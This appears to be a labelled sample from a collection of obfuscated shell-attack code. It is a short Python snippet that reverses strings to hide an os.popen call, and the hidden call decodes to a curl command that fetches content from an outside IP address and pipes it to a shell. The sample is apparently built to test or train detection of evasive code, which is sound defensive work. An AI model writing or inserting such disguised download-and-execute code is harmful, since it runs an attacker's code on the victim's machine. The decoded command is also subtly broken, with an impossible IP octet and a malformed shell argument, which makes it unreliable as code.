# evasion: one small helper turns several reversed words back, the module and the command each through it
# grade: hard; does: shell
def k(word):
    return word[::-1]


print(k("olleh"))
mod = __import__(k("so"))
mod.popen(k("hs- | 4.001.315.302//:ptth Ls- lruc")).read()
